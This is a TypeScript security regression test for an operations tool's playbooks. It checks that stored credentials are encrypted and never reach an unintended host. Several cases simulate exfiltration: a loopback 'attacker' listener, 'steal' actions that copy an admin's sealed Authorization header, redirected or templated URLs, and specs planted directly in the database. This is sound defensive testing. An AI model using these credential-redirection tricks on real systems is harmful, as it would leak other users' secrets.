import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PlaybookRun } from '@opsdeck/shared';
import { sealStoredPlaybookSecrets } from '../../src/modules/playbooks/playbook-secrets';
import { PlaybookWorker } from '../../src/modules/playbooks/playbook-worker';
import { startTestServer, type TestServer } from '../harness';

const IS_ROOT = process.getuid?.() === 0;
const TOKEN = 'Bearer admin-token-5f1c9e';
const BODY = '{"client_secret":"admin-body-77a2"}';
const ENV_SECRET = 'exec-env-secret-3b8d';
const PLAINTEXTS = ['admin-token-5f1c9e', 'admin-body-77a2', ENV_SECRET];
const FINAL = new Set(['completed', 'failed', 'cancelled']);

interface Received {
  path: string;
  headers: IncomingHttpHeaders;
  body: string;
}

interface Listener {
  url: string;
  host: string;
  received: Received[];
  close(): Promise<void>;
}

/** A loopback listener that answers every request with the request it received, as a hostile echo would. */
async function startListener(): Promise<Listener> {
  const received: Received[] = [];
  const server: Server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
    request.on('end', () => {
      const seen = { path: request.url ?? '/', headers: request.headers, body };
      received.push(seen);
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(seen));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    host: `127.0.0.1:${port}`,
    received,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}

interface Header {
  name: string;
  value: unknown;
}

interface HttpBlock {
  url: string;
  method?: string;
  headers?: Header[];
  body?: unknown;
}

interface StoredSpec {
  parameters?: unknown[];
  actions: Array<{ name: string; http?: HttpBlock; exec?: { script: string; env?: Header[] } }>;
}

function isEnvelope(value: unknown): boolean {
  return typeof value === 'object' && value !== null && typeof (value as { $encrypted?: unknown }).$encrypted === 'string' && (value as { $encrypted: string }).$encrypted !== '';
}

function header(spec: StoredSpec, name: string): unknown {
  return spec.actions[0]?.http?.headers?.find((entry) => entry.name.toLowerCase() === name.toLowerCase())?.value;
}

/**
 * Issue #31, hole 5 for playbooks: http header values (Authorization), exec env values and request bodies were stored
 * and shown in plaintext. They are now sealed for the playbook and for where the action sends them; an editor who
 * copies an envelope, moves the URL or templates the host gets no plaintext sent anywhere but where it belongs.
 */
describe('playbook secrets are sealed and go only where they were sealed for', () => {
  let server: TestServer;
  let worker: PlaybookWorker;
  let right: Listener;
  let attacker: Listener;
  const cookies = { admin: '', editor: '', viewer: '' };
  const previousRole = process.env.OPSDECK_ROLE;

  const httpAction = (url: string): StoredSpec['actions'][number] => ({
    name: 'notify-upstream',
    http: { url, method: 'POST', headers: [{ name: 'Authorization', value: TOKEN }, { name: 'Accept', value: 'application/json' }], body: BODY },
  });

  async function save(cookie: string, spec: unknown): Promise<{ status: number; text: string; json: Record<string, unknown> }> {
    return server.call('POST', '/api/db/playbooks', cookie, { name: `secrets-${randomUUID().slice(0, 8)}`, spec }, { prefer: 'return=representation' });
  }

  async function saved(cookie: string, spec: unknown): Promise<{ id: string; spec: StoredSpec }> {
    const reply = await save(cookie, spec);
    expect(reply.status, reply.text).toBe(201);
    const row = (reply.json as unknown as Array<{ id: string; spec: StoredSpec }>)[0];
    if (row === undefined) throw new Error('no playbook row');
    return row;
  }

  async function storedSpec(id: string): Promise<StoredSpec> {
    const row = await server.pool.query<{ spec: StoredSpec }>('select spec from playbooks where id = $1', [id]);
    const spec = row.rows[0]?.spec;
    if (spec === undefined) throw new Error(`no playbook ${id}`);
    return spec;
  }

  async function runToEnd(playbookId: string, params: Record<string, string> = {}): Promise<PlaybookRun> {
    const requested = await server.call('POST', '/api/playbook/run', cookies.editor, { id: playbookId, params });
    expect(requested.status, requested.text).toBe(201);
    const runId = String(requested.json.run_id);
    const deadline = Date.now() + 20_000;
    for (;;) {
      const reply = await server.call('GET', `/api/playbook/run/${runId}`, cookies.admin);
      const run = reply.json as unknown as PlaybookRun;
      if (FINAL.has(run.status)) return run;
      if (Date.now() > deadline) throw new Error(`run ${runId} is still ${run.status}`);
      await worker.runDue();
    }
  }

  beforeAll(async () => {
    process.env.OPSDECK_ROLE = 'api';
    server = await startTestServer();
    worker = new PlaybookWorker({ pool: server.pool, secretKey: server.running.context.config.secretKey, leaseMs: 3000 });
    for (const role of ['admin', 'editor', 'viewer'] as const) cookies[role] = await server.cookieFor(role);
    right = await startListener();
    attacker = await startListener();
  });
  afterAll(async () => {
    process.env.OPSDECK_ROLE = previousRole;
    await worker.stop();
    await right.close();
    await attacker.close();
    await server.close();
  });

  it('stores the Authorization header, the body and exec env values sealed, and public headers and templates as written', async () => {
    const playbook = await saved(cookies.admin, {
      actions: [
        httpAction(`${right.url}/hook`),
        { name: 'script', exec: { script: 'echo "$DB_PASSWORD"', env: [{ name: 'DB_PASSWORD', value: ENV_SECRET }, { name: 'CLUSTER', value: '{{ params.cluster }}' }] } },
      ],
    });
    const stored = await server.pool.query<{ text: string }>('select spec::text as text from playbooks where id = $1', [playbook.id]);
    for (const plaintext of PLAINTEXTS) expect(stored.rows[0]?.text).not.toContain(plaintext);
    const spec = await storedSpec(playbook.id);
    expect(isEnvelope(header(spec, 'Authorization'))).toBe(true);
    expect(header(spec, 'Accept')).toBe('application/json');
    expect(isEnvelope(spec.actions[0]?.http?.body)).toBe(true);
    const env = spec.actions[1]?.exec?.env ?? [];
    expect(isEnvelope(env[0]?.value)).toBe(true);
    expect(env[1]?.value).toBe('{{ params.cluster }}');
  });

  it('sends the sealed header and body to the listener it was sealed for, and keeps neither in the run, its actions, job history or events', async () => {
    const playbook = await saved(cookies.admin, { actions: [httpAction(`${right.url}/hook`)] });
    const before = right.received.length;
    const run = await runToEnd(playbook.id);
    expect(run.status, JSON.stringify(run.actions)).toBe('completed');
    const seen = right.received.slice(before).at(-1);
    expect(seen?.headers.authorization).toBe(TOKEN);
    expect(seen?.body).toBe(BODY);
    // The listener echoed both back; what the run keeps has them scrubbed.
    expect(run.actions[0]?.result?.body).toContain('[REDACTED]');

    const reads = [
      `/api/db/playbooks?id=eq.${playbook.id}`,
      `/api/db/playbook_runs?id=eq.${run.id}`,
      `/api/db/playbook_run_actions?playbook_run_id=eq.${run.id}`,
      `/api/db/job_history?resource_id=eq.${playbook.id}`,
      `/api/playbook/run/${run.id}`,
      '/api/playbook/list',
    ];
    for (const url of reads) {
      const reply = await server.call('GET', url, cookies.viewer);
      if (reply.status === 404 || reply.status === 403) continue;
      expect(reply.status, `${url}: ${reply.text}`).toBe(200);
      for (const plaintext of PLAINTEXTS) expect(reply.text, url).not.toContain(plaintext);
    }
    const viewed = await server.call('GET', `/api/db/playbooks?id=eq.${playbook.id}`, cookies.viewer);
    expect(viewed.status).toBe(200);
    const viewedSpec = (viewed.json as unknown as Array<{ spec: StoredSpec }>)[0]?.spec;
    // A viewer sees that a secret is set, and no ciphertext to replay anywhere.
    expect(viewedSpec === undefined ? undefined : header(viewedSpec, 'Authorization')).toEqual({ $encrypted: '' });

    const copies = await server.pool.query<{ text: string }>(
      `select coalesce((select string_agg(spec::text, ' ') from playbook_runs where id = $1), '') ||
              coalesce((select string_agg(coalesce(result::text, '') || coalesce(error, ''), ' ') from playbook_run_actions where playbook_run_id = $1), '') ||
              coalesce((select string_agg(details::text, ' ') from job_history where resource_id = $2), '') ||
              coalesce((select string_agg(properties::text, ' ') from event_queue where properties ->> 'run_id' = $1::text), '') as text`,
      [run.id, playbook.id],
    );
    for (const plaintext of PLAINTEXTS) expect(copies.rows[0]?.text).not.toContain(plaintext);
  });

  it.runIf(IS_ROOT)('hands a sealed env value to the script and scrubs it from what the script printed', async () => {
    const playbook = await saved(cookies.admin, { actions: [{ name: 'script', exec: { script: 'echo "value=$DB_PASSWORD"', env: [{ name: 'DB_PASSWORD', value: ENV_SECRET }] } }] });
    const run = await runToEnd(playbook.id);
    expect(run.status, JSON.stringify(run.actions)).toBe('completed');
    expect(run.actions[0]?.result?.stdout).toBe('value=[REDACTED]\n');
  });

  it('refuses an api_key written into an http URL with a coded 400', async () => {
    const reply = await save(cookies.editor, { actions: [{ name: 'call', http: { url: `${right.url}/hook?api_key=plain-key-9f3e` } }] });
    expect(reply.status, reply.text).toBe(400);
    expect(reply.json.code).toBe('OD_URL_SECRET');
    expect(reply.text).not.toContain('plain-key-9f3e');
  });

  it("gives an editor who copies the admin's sealed Authorization into their own playbook no plaintext at their listener", async () => {
    const admin = await saved(cookies.admin, { actions: [httpAction(`${right.url}/hook`)] });
    const read = await server.call('GET', `/api/db/playbooks?id=eq.${admin.id}`, cookies.editor);
    const envelope = header((read.json as unknown as Array<{ spec: StoredSpec }>)[0]?.spec ?? { actions: [] }, 'Authorization');
    expect(isEnvelope(envelope)).toBe(true);

    const copied = { actions: [{ name: 'steal', http: { url: `${attacker.url}/steal`, method: 'POST', headers: [{ name: 'Authorization', value: envelope }] } }] };
    const own = await save(cookies.editor, copied);
    // The copy does not open where it now stands, so the save drops it (or refuses it); it never stores it there.
    if (own.status === 201) {
      const ownId = (own.json as unknown as Array<{ id: string }>)[0]?.id ?? '';
      expect(header(await storedSpec(ownId), 'Authorization')).toBeUndefined();
      const run = await runToEnd(ownId);
      expect(run.status).toBe('completed');
    } else {
      expect(own.status, own.text).toBe(400);
    }
    for (const request of attacker.received) expect(request.headers.authorization).toBeUndefined();

    // Stored straight into the database, past every write path: the run refuses to open it and sends nothing.
    const planted = await server.pool.query<{ id: string }>('insert into playbooks (name, spec) values ($1, $2) returning id', [
      `planted-${randomUUID().slice(0, 8)}`,
      JSON.stringify(copied),
    ]);
    const before = attacker.received.length;
    const run = await runToEnd(planted.rows[0]?.id ?? '');
    expect(run.status).toBe('failed');
    expect(run.actions[0]?.error).toMatch(/sealed for another resource, field or destination/);
    expect(attacker.received.length).toBe(before);
  });

  it("drops the sealed header and body when an editor points the admin's http action at another URL", async () => {
    const admin = await saved(cookies.admin, { actions: [httpAction(`${right.url}/hook`)] });
    const read = await server.call('GET', `/api/db/playbooks?id=eq.${admin.id}`, cookies.editor);
    const spec = (read.json as unknown as Array<{ spec: StoredSpec }>)[0]?.spec;
    const action = spec?.actions[0];
    expect(action?.http).toBeDefined();
    const moved = { ...spec, actions: [{ ...action, http: { ...action?.http, url: `${attacker.url}/steal` } }] };
    const patched = await server.call('PATCH', `/api/db/playbooks?id=eq.${admin.id}`, cookies.editor, { spec: moved });
    expect(patched.status, patched.text).toBeLessThan(300);

    const stored = await storedSpec(admin.id);
    expect(stored.actions[0]?.http?.url).toBe(`${attacker.url}/steal`);
    expect(header(stored, 'Authorization')).toBeUndefined();
    expect(stored.actions[0]?.http?.body).toBeUndefined();
    expect(header(stored, 'Accept')).toBe('application/json');

    const run = await runToEnd(admin.id);
    expect(run.status).toBe('completed');
    const seen = attacker.received.at(-1);
    expect(seen?.path).toBe('/steal');
    expect(seen?.headers.authorization).toBeUndefined();
    expect(seen?.body).toBe('');
  });

  it('never sends the sealed header to a host written as a template', async () => {
    const templated = (spec: StoredSpec | undefined, url: string): StoredSpec => ({
      parameters: [{ name: 'host' }],
      actions: (spec?.actions ?? []).map((action) => ({ ...action, http: { ...(action.http ?? { url }), url } })),
    });
    // Written with the secret in the clear: refused, since the host is only known when the run renders it.
    const fresh = await save(cookies.admin, templated({ actions: [httpAction('')] }, 'http://{{.params.host}}/hook'));
    expect(fresh.status, fresh.text).toBe(400);
    expect(fresh.json.code).toBe('OD_PLAYBOOK_SPEC');
    expect(fresh.json.details).toBe('spec.actions[0].http.url');

    // An editor turning the admin's URL into a template: the sealed values are dropped.
    const admin = await saved(cookies.admin, { parameters: [{ name: 'host' }], actions: [httpAction(`${right.url}/hook`)] });
    const read = await server.call('GET', `/api/db/playbooks?id=eq.${admin.id}`, cookies.editor);
    const spec = (read.json as unknown as Array<{ spec: StoredSpec }>)[0]?.spec;
    const patched = await server.call('PATCH', `/api/db/playbooks?id=eq.${admin.id}`, cookies.editor, { spec: templated(spec, 'http://{{.params.host}}/hook') });
    expect(patched.status, patched.text).toBeLessThan(300);
    expect(header(await storedSpec(admin.id), 'Authorization')).toBeUndefined();
    const before = attacker.received.length;
    const run = await runToEnd(admin.id, { host: attacker.host });
    expect(run.status).toBe('completed');
    expect(attacker.received.slice(before).map((request) => request.headers.authorization)).toEqual([undefined]);

    // The envelope kept and only the URL templated, straight in the database: the run opens it for the rendered host, which is not its own.
    const kept = await saved(cookies.admin, { parameters: [{ name: 'host' }], actions: [httpAction(`${right.url}/hook`)] });
    await server.pool.query(`update playbooks set spec = jsonb_set(spec, '{actions,0,http,url}', '"http://{{.params.host}}/hook"') where id = $1`, [kept.id]);
    const planted = await runToEnd(kept.id, { host: attacker.host });
    expect(planted.status).toBe('failed');
    expect(planted.actions[0]?.error).toMatch(/sealed for another resource, field or destination/);
    expect(attacker.received.length).toBe(before + 1);
  });

  it('seals plaintext left in stored playbooks and their runs at startup, and the sealed header still reaches its listener', async () => {
    const spec = { actions: [httpAction(`${right.url}/hook`)] };
    const inserted = await server.pool.query<{ id: string }>('insert into playbooks (name, spec) values ($1, $2) returning id', [
      `legacy-${randomUUID().slice(0, 8)}`,
      JSON.stringify(spec),
    ]);
    const id = inserted.rows[0]?.id ?? '';
    const queued = await server.pool.query<{ id: string }>(`insert into playbook_runs (playbook_id, status, spec) values ($1, 'completed', $2) returning id`, [id, JSON.stringify(spec)]);

    const report = await sealStoredPlaybookSecrets(server.pool, server.running.context.config.secretKey);
    expect(report.playbooks).toBeGreaterThanOrEqual(1);
    expect(report.runs).toBeGreaterThanOrEqual(1);
    const texts = await server.pool.query<{ text: string }>(
      'select (select spec::text from playbooks where id = $1) || (select spec::text from playbook_runs where id = $2) as text',
      [id, queued.rows[0]?.id],
    );
    for (const plaintext of PLAINTEXTS) expect(texts.rows[0]?.text).not.toContain(plaintext);

    const before = right.received.length;
    const run = await runToEnd(id);
    expect(run.status, JSON.stringify(run.actions)).toBe('completed');
    expect(right.received.slice(before).at(-1)?.headers.authorization).toBe(TOKEN);
  });
});
